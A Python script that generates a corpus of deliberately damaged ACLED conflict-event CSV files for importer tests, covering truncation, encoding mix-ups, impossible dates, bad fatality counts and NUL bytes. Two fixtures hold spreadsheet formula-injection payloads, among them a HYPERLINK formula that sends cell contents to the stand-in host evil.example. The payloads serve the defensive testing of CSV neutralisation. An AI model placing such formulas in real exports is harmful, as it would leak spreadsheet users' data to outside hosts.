#!/usr/bin/env python3
"""Write the bad-input corpus beside this script, byte for byte.

    python tests/data/bad/make_corpus.py

Every file is a small ACLED-layout CSV (or not quite one) with one kind of damage; the
tests in tests/services/imports/test_import_corpus.py say what the importer must do with each, and
check that the committed files are still exactly what ``corpus()`` returns. The 10 MB
field is not here: the tests generate it in a temporary folder.
"""

from __future__ import annotations

import codecs
from pathlib import Path

HEADER = ("event_id_cnty,event_date,year,time_precision,event_type,sub_event_type,actor1,"
          "actor2,location,latitude,longitude,notes,fatalities,timestamp")
RUSSIA = "Military Forces of Russia (2000-)"
UKRAINE = "Military Forces of Ukraine (2019-)"


def row(n: int, *, date: str | None = None, year: str = "2022", event_type: str = "Battles",
        sub_event_type: str = "Armed clash", location: str = "Kharkiv",
        notes: str | None = None, fatalities: str = "1") -> str:
    """One ACLED row, id BAD<n>; fields are written as given (quote them yourself)."""
    date = f"2022-03-{n:02d}" if date is None else date
    if notes is None:
        notes = f'"On {n} March 2022, clashes near {location}, with shelling."'
    return ",".join([f"BAD{n}", date, year, "1", event_type, sub_event_type, RUSSIA, UKRAINE,
                     location, "49.9935", "36.2304", notes, fatalities, str(1650000000 + n)])


def lines(*rows: str, end: str = "\n") -> str:
    return "\n".join([HEADER, *rows]) + end


def corpus() -> dict[str, bytes]:
    utf8 = lines(row(1), row(2, location="Харків"), row(3))
    return {
        # Cut off inside a quoted field: the record starting on line 4 never ends.
        "truncated_in_quote.csv": lines(
            row(1), row(2), 'BAD3,2022-03-03,2022,1,Battles,Armed clash,' + RUSSIA + ','
            + UKRAINE + ',Kharkiv,49.9935,36.2304,"On 3 March 2022, shelling\nhit the',
            end="").encode(),
        # Cut off in the middle of line 5's row, with no final newline.
        "truncated_mid_row.csv": lines(row(1), row(2), row(3), "BAD4,2022-03-0",
                                       end="").encode(),
        "utf16.csv": utf8.encode("utf-16"),  # with its BOM, as Excel's "Unicode text"
        "utf16_no_bom.csv": utf8.encode("utf-16-le"),
        # Line 2 is UTF-8 (Харків), line 4 has a Windows-1252 apostrophe (byte 0x92).
        "mixed_encoding.csv": lines(row(1, location="Харків"), row(2)).encode()
        + row(3, notes='"Russia’s shelling of Kharkiv"').encode("cp1252") + b"\n"
        + row(4).encode() + b"\n",
        "utf8_bom.csv": codecs.BOM_UTF8 + utf8.encode(),
        "missing_columns.csv": b"event_id_cnty,year,location,fatalities\nBAD1,2022,Kharkiv,1\n",
        "duplicate_header.csv": (b"event_id_cnty,event_date,event_type,fatalities,notes,"
                                 b"Fatalities\nBAD1,2022-03-01,Battles,1,clash,2\n"),
        # Lines 3-8 are bad; lines 2 and 9 are good.
        "bad_dates.csv": lines(
            row(1), row(2, date="2023-02-30", year="2023"), row(3, date="31/04/2022"),
            row(4, date="yesterday"), row(5, date=""), row(6, date="2022-03-06", year="2021"),
            row(7, date="2022-02-29"), row(8, date="14/08/2022 00:00:00")).encode(),
        # ACLED's slashed dates are day-first: month 13 is impossible, not 13 December.
        "month_13.csv": lines(row(1, date="01/03/2022 00:00:00"),
                              row(2, date="12/13/2022 00:00:00")).encode(),
        # Lines 3-5 are bad; empty (unknown) and a spreadsheet's "3.0" are fine.
        "bad_fatalities.csv": lines(
            row(1), row(2, fatalities="many"), row(3, fatalities="-3"),
            row(4, fatalities="2.5"), row(5, fatalities=""), row(6, fatalities="3.0")).encode(),
        "nul_bytes.csv": lines(row(1), row(2, notes='"On 2 March\x002022"'), row(3)).encode(),
        # Text a spreadsheet would run: imported as plain text, neutralised on the way out.
        "formulas.csv": lines(
            row(1, event_type="@SUM(1+1)", location="+1",
                notes='"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"'),
            row(2, location="-2+3", notes="+1"), row(3, notes="@SUM(A1:A9)")).encode(),
        # A CSV mapped by hand whose own header names are formulas (the report shows them).
        "formulas_mapped.csv": (b'date,@SUM(A1:A2),"=HYPERLINK(""http://evil.example"")"\n'
                                b"2022-03-01,1,=1+2\n2022-03-02,lots,ok\n2022-03-03,-3,ok\n"),
        "empty.csv": b"",
        "header_only.csv": (HEADER + "\n").encode(),
    }


def main() -> None:
    folder = Path(__file__).resolve().parent
    for name, content in corpus().items():
        (folder / name).write_bytes(content)
        print(f"{name}: {len(content)} bytes")


if __name__ == "__main__":
    main()
